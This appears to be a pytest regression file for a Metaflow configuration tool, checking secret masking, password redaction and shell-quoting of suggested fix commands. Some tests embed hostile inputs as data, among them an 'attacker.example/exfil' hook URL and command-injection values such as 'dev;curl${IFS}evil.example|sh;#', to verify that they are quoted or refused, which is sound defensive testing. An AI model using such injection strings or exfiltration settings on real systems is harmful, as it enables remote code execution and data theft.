"""What a review of the day's changes found (sections' marks, `show --target`, fixes quoted,
a Runner's `cwd=` in a scope, a section's secret reference): each failed before its fix."""

from __future__ import annotations

import json
import os
import random
import shlex
import subprocess
import sys
import textwrap
import types
from pathlib import Path

import pytest

from tests.test_sections import _install as _install_section

PY = sys.executable
CLI = str(Path(PY).parent / "metaflow-config")


def _install(root: Path, module: str) -> Path:
    """A distribution ``acme-mf`` registering ``acme_mf.config:Acme`` as a section."""
    _install_section(root, "acme-mf", "acme = acme_mf.config:Acme", textwrap.dedent(module))
    return root


def _env(tmp: Path, site: Path, **extra: str) -> dict[str, str]:
    (tmp / "home").mkdir(exist_ok=True)
    (tmp / "mfhome").mkdir(exist_ok=True)
    return {
        "PATH": "/usr/bin:/bin",
        "HOME": str(tmp / "home"),
        "METAFLOW_HOME": str(tmp / "mfhome"),
        "METAFLOW_USER": "tester",
        "PYTHONPATH": str(site),
        "AWS_EC2_METADATA_DISABLED": "true",
        **extra,
    }


def _run(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """``args`` run with exactly ``env`` in ``cwd``, its output captured as text."""
    return subprocess.run(
        args, env=env, cwd=cwd, capture_output=True, text=True, timeout=120, check=False
    )


# --- 1. a sensitive mark pydantic honours is missed: an untrusted project file sets it -------

HOOK_SECTION = """
    import dataclasses
    from typing import Annotated, Optional
    from pydantic import Field
    from pydantic_settings import SettingsConfigDict
    from metaflow_config.pydantic import MetaflowBaseSettings

    @dataclasses.dataclass
    class Hook:
        # pydantic takes a Field() default of a stdlib dataclass as the field's FieldInfo
        url: Optional[str] = Field(default=None, json_schema_extra={"sensitive": True})

    class Acme(MetaflowBaseSettings):
        model_config = SettingsConfigDict(env_prefix="METAFLOW_ACME_")
        hook: Optional[Hook] = None
        direct: Optional[Annotated[str, Field(json_schema_extra={"sensitive": True})]] = None
"""


def test_untrusted_project_file_sets_a_sensitive_key_marked_in_a_dataclass_field(
    tmp_path: Path,
) -> None:
    """_fields_of reads a stdlib dataclass by its annotations only; pydantic (and its schema)
    take the mark from the Field() default. The key is not sensitive to this package, so a
    cloned repository's .metaflow/config.json decides where the hook sends data."""
    site = _install(tmp_path / "site", HOOK_SECTION)
    project = tmp_path / "repo"
    (project / ".metaflow").mkdir(parents=True)
    config = project / ".metaflow" / "config.json"
    config.write_text(
        json.dumps(
            {
                "METAFLOW_ACME_HOOK": {"url": "https://attacker.example/exfil"},
                "METAFLOW_ACME_DIRECT": "https://attacker.example/direct",
            }
        )
    )
    config.chmod(0o600)
    probe = (
        "from metaflow_config import settings\n"
        "from acme_mf.config import Acme\n"
        "print('SENSITIVE', sorted(Acme.sensitive_keys()))\n"
        "print('HOOK', settings['METAFLOW_ACME_HOOK'])\n"
        "print('DIRECT', settings['METAFLOW_ACME_DIRECT'])\n"
    )
    done = _run([PY, "-W", "ignore", "-c", probe], _env(tmp_path, site), project)
    assert done.returncode == 0, done.stderr
    assert "DIRECT None" in done.stdout  # the reference: a mark found is withheld
    assert "attacker.example/exfil" not in done.stdout, done.stdout
    assert "METAFLOW_ACME_HOOK" in done.stdout.split("SENSITIVE", 1)[1].splitlines()[0]


def test_secret_marked_on_a_dataclass_field_default_is_masked() -> None:
    import dataclasses
    from typing import Optional

    from pydantic import Field
    from pydantic_settings import SettingsConfigDict

    from metaflow_config.pydantic import MetaflowBaseSettings

    @dataclasses.dataclass
    class Creds:
        user: str = "u"
        token: Optional[str] = Field(default=None, json_schema_extra={"secret": True})

    class Acme(MetaflowBaseSettings):
        model_config = SettingsConfigDict(env_prefix="METAFLOW_ACME_")
        creds: Optional[Creds] = None

    assert "METAFLOW_ACME_CREDS" in Acme.secret_keys()
    assert "hunter2-secret" not in repr(Acme(creds={"token": "hunter2-secret"}))


# --- 2. get_type_hints fails on one name: every mark of that class is dropped (fails open) ----

LOCAL_MODULE = """
    from __future__ import annotations
    import dataclasses
    from typing import Annotated, Optional
    from pydantic import Field
    from pydantic_settings import SettingsConfigDict
    from metaflow_config.pydantic import MetaflowBaseSettings

    def make():
        @dataclasses.dataclass
        class Region:
            name: str = "us-east-1"

        @dataclasses.dataclass
        class Creds:
            token: Annotated[str, Field(json_schema_extra={"secret": True})]
            region: Optional[Region] = None   # a local name: get_type_hints cannot resolve it

        class Acme(MetaflowBaseSettings):
            model_config = SettingsConfigDict(env_prefix="METAFLOW_ACME_")
            creds: Optional[Creds] = None
        return Acme, Creds

    Acme, Creds = make()
    print("KEYS", sorted(Acme.secret_keys()))
    print("REPR", repr(Acme(creds=Creds(token="hunter2-secret"))))
"""


def test_secret_mark_is_kept_when_a_sibling_annotation_does_not_resolve(tmp_path: Path) -> None:
    """pydantic resolves the local name (the defining frame); _fields_of's get_type_hints does
    not, and its fallback hands back the annotation strings: the secret is shown in the repr."""
    (tmp_path / "localmod.py").write_text(textwrap.dedent(LOCAL_MODULE))
    done = _run([PY, "-W", "ignore", str(tmp_path / "localmod.py")], dict(os.environ), tmp_path)
    assert done.returncode == 0, done.stderr
    assert "hunter2-secret" not in done.stdout, done.stdout


# --- 3. `seen` holds ids of freed objects: a later part at a reused address is skipped -------


def test_marked_does_not_skip_a_part_at_a_reused_address() -> None:
    """get_type_hints builds new Annotated/FieldInfo objects on every call; _marked records
    id(part) and lets the part be freed, so a marked part created later at the same address is
    taken as seen. Random shapes (fixed seed): some are missed (3-4 in 400 here); holding the
    parts alive as well as their ids misses none."""
    from typing import Annotated, NamedTuple, Optional, TypedDict, Union

    from pydantic import Field
    from pydantic.fields import FieldInfo

    from metaflow_config.pydantic import _marked

    mod = types.ModuleType("review_shapes")
    sys.modules["review_shapes"] = mod
    mod.__dict__.update(
        Annotated=Annotated,
        Field=Field,
        Optional=Optional,
        TypedDict=TypedDict,
        NamedTuple=NamedTuple,
        dataclasses=__import__("dataclasses"),
    )
    rng = random.Random(1)  # noqa: S311 - the test's shapes, reproducible
    missed = []
    for trial in range(800):
        count, plain = rng.randint(1, 6), rng.randint(1, 6)
        kind = rng.choice(["dc", "td", "nt"])

        def make(name: str, secret: bool, count: int = count, kind: str = kind) -> type:
            lines = []
            for j in range(count):
                mark = (
                    "json_schema_extra={'secret': True}"
                    if secret and j == count - 1
                    else (f"description='p{j}'")
                )
                wrap = rng.choice(
                    [
                        "Annotated[str, Field(%s)]",
                        "Optional[Annotated[str, Field(%s)]]",
                        "list[Annotated[str, Field(%s)]]",
                    ]
                )
                lines.append(f'    f{j}: "{wrap % mark}"\n')
            head = {
                "dc": f"@dataclasses.dataclass\nclass {name}:\n",
                "td": f"class {name}(TypedDict):\n",
                "nt": f"class {name}(NamedTuple):\n",
            }[kind]
            exec(head + "".join(lines), mod.__dict__)  # noqa: S102 - the test's own shapes
            return mod.__dict__[name]

        others = [make(f"P{trial}_{i}", False) for i in range(plain)]
        secret = make(f"C{trial}", True)
        at = rng.randint(0, plain)
        members = (*others[:at], secret, *others[at:])
        if not _marked(FieldInfo(annotation=Optional[Union[members]]), "secret"):
            missed.append(trial)
    assert missed == [], f"{len(missed)} of 800 secret marks missed"


# --- 4. show --target prints a registered key's URL password ------------------------------

URL_SECTION = """
    from typing import Optional
    from pydantic_settings import SettingsConfigDict
    from metaflow_config.pydantic import MetaflowBaseSettings

    class Acme(MetaflowBaseSettings):
        model_config = SettingsConfigDict(env_prefix="METAFLOW_ACME_")
        db_url: Optional[str] = None
"""


@pytest.mark.parametrize("extra", [[], ["--json"]], ids=["text", "json"])
def test_show_target_masks_a_registered_keys_url_password(tmp_path: Path, extra: list[str]) -> None:
    """`show` and `explain --target` print postgres://u:****@h/db; `show --target` (new rows
    for registered keys, _registered_cell -> entry_text) prints the password itself."""
    site = _install(tmp_path / "site", URL_SECTION)
    env = _env(tmp_path, site, METAFLOW_ACME_DB_URL="postgres://u:pw-SECRET-456@h/db")
    plain = subprocess.run(
        [CLI, "show", "--all"], env=env, cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert "postgres://u:****@h/db" in plain.stdout  # the reference
    shown = _run([CLI, "show", "--target", "batch", "--all", *extra], env, tmp_path)
    assert "METAFLOW_ACME_DB_URL" in shown.stdout, shown.stdout + shown.stderr
    assert "pw-SECRET-456" not in shown.stdout + shown.stderr


# --- 5. fixes to paste quote what came from the configuration and the environment ---------


def _words(command: str) -> list[str]:
    """``command`` as a POSIX shell splits it (``;`` and ``|`` end a command)."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def _aws_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "aws-config"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-credentials"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    for name in ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_ENDPOINT_URL"):
        monkeypatch.delenv(name, raising=False)


def test_arn_region_is_quoted_in_the_export_fix(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """_created_as puts the ARN's region part, unchecked, into `export AWS_DEFAULT_REGION=...`
    (the queue's name beside it is shell_quote()d)."""
    from moto import mock_aws

    from metaflow_config import load
    from metaflow_config._checks.checks import check

    _aws_env(monkeypatch, tmp_path)
    queue = "arn:aws:batch:eu-west-3;touch${IFS}/tmp/pwned;:123456789012:job-queue/mf-q"
    with mock_aws():
        import boto3

        snapshot = load(
            env={"METAFLOW_BATCH_JOB_QUEUE": queue},
            home=str(tmp_path / "mfhome"),
            cwd=str(tmp_path),
        )
        results = {
            r.name: r for r in check(snapshot, capabilities=["batch"], session=boto3.Session())
        }
    found = results["batch.job_queue"]
    # no job queue's ARN at all (AWS Batch's form): refused by its form, no command offered
    # that holds a piece of it (the region was pasted into `export AWS_DEFAULT_REGION=`)
    assert "is not a job queue's name" in found.detail, found.detail
    assert "export" not in found.fix
    assert "touch" not in found.fix + found.detail


def test_aws_profile_from_the_environment_is_quoted_in_the_configure_fix(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """_profile_not_found now takes the name from AWS_PROFILE (untrusted) and pastes it into
    `aws configure --profile {name}` unquoted."""
    from metaflow_config import load
    from metaflow_config._checks.checks import check

    _aws_env(monkeypatch, tmp_path)
    (tmp_path / "aws-config").write_text("[profile dev]\nregion = eu-west-1\n")
    hostile = "dev;curl${IFS}evil.example|sh;#"
    monkeypatch.setenv("AWS_PROFILE", hostile)
    snapshot = load(
        env={"METAFLOW_BATCH_JOB_QUEUE": "q"}, home=str(tmp_path / "mfhome"), cwd=str(tmp_path)
    )
    creds = {r.name: r for r in check(snapshot, timeout=1, deadline=10)}["aws.credentials"]
    command = creds.fix.split("`", 2)[1]
    assert _words(command) == ["aws", "configure", "--profile", hostile], command


# --- 6. a Runner's cwd= inside an unrelated override() loses its directory's project file ----

RUNNER_CWD = """
    import os, subprocess, sys
    from metaflow_config import override
    from metaflow_config._metaflow.launch import in_scope

    B = sys.argv[1]
    PROBE = "from metaflow_config import settings; print(settings['METAFLOW_S3_RETRY_COUNT'])"

    def original(api, flow, show_output=False, profile=None, env=None, cwd=None, **kw):
        # as metaflow.Runner: `env` laid over os.environ, the flow's processes run in `cwd`
        full = {**os.environ, **(env or {})}
        done = subprocess.run([sys.executable, "-W", "ignore", "-c", PROBE], env=full, cwd=cwd,
                              capture_output=True, text=True)
        return done.stdout.strip()

    print("PLAIN", original(None, "flow.py", cwd=B))
    with override(BATCH_JOB_QUEUE="scope-q"):  # a scope that says nothing of the project
        print("SCOPED", in_scope(original, None, "flow.py", cwd=B))
"""


def test_runner_cwd_inside_an_unrelated_override_keeps_its_project_file(tmp_path: Path) -> None:
    """Runner("flow.py", cwd=B) reads B/.metaflow/config.json (S3_RETRY_COUNT=9), inside an
    override() that sets an unrelated key too: its cwd= is resolved under the scope, as its
    profile= is (the day's first version named the parent's project to the child: 7)."""
    here, there = tmp_path / "a", tmp_path / "b"
    here.mkdir()
    (there / ".metaflow").mkdir(parents=True)
    (there / ".metaflow" / "config.json").write_text('{"METAFLOW_S3_RETRY_COUNT": 9}')
    (there / ".metaflow" / "config.json").chmod(0o600)
    (tmp_path / "runner.py").write_text(textwrap.dedent(RUNNER_CWD))
    env = _env(tmp_path, Path(__file__).resolve().parent)
    done = _run([PY, "-W", "ignore", str(tmp_path / "runner.py"), str(there)], env, here)
    assert done.returncode == 0, done.stderr
    assert "PLAIN 9" in done.stdout, done.stdout
    assert "SCOPED 9" in done.stdout, done.stdout


# --- 7. a registered secret's launch warning advises a secret reference the section never fetches

TOKEN_SECTION = """
    from typing import Optional
    from pydantic import SecretStr
    from pydantic_settings import SettingsConfigDict
    from metaflow_config.pydantic import MetaflowBaseSettings

    class Acme(MetaflowBaseSettings):
        model_config = SettingsConfigDict(env_prefix="METAFLOW_ACME_")
        api_token: Optional[SecretStr] = None
"""

ADVICE_PROBE = """
from metaflow_config import settings
from metaflow_config._snapshot.settings import resolution_of
from metaflow_config._snapshot.taskenv import TaskEnv, exposed_text
from acme_mf.config import Acme
exposed = TaskEnv(resolution_of(settings), "batch").exposed_secrets()
print("EXPOSED", exposed)
print("ADVICE", exposed_text(exposed, "batch") if exposed else "")
print("VALUE", Acme().api_token.get_secret_value())
"""


def test_registered_secret_warning_gives_advice_that_works(tmp_path: Path) -> None:
    """The token already *is* a secret reference (only the reference text travels), yet the
    launch says it is written as text and advises `{{resolve:secretsmanager:...}}`, "which the
    task fetches": a registered section fetches no reference, so the task's token would be the
    literal reference text."""
    site = _install(tmp_path / "site", TOKEN_SECTION)
    env = _env(
        tmp_path,
        site,
        METAFLOW_ACME_API_TOKEN="{{resolve:secretsmanager:mf/tok}}",
        AWS_DEFAULT_REGION="us-east-1",
    )
    done = _run([PY, "-W", "ignore", "-c", ADVICE_PROBE], env, tmp_path)
    assert done.returncode == 0, done.stderr
    advice = done.stdout.split("ADVICE", 1)[1].split("VALUE", 1)[0]
    value = done.stdout.split("VALUE", 1)[1].strip()
    if "secret reference" in advice:
        assert value != "{{resolve:secretsmanager:mf/tok}}", done.stdout
